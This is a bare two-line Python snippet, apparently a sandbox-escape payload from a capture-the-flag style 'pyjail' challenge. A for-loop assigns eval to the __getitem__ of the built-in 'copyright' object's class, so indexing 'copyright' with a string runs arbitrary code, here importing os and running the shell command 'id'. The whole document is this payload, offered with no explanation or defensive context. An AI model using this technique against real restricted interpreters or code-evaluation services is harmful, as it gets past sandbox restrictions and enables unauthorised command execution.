for copyright.__class__.__getitem__ in [eval]:
    copyright["__import__('os').popen('id').read()"]
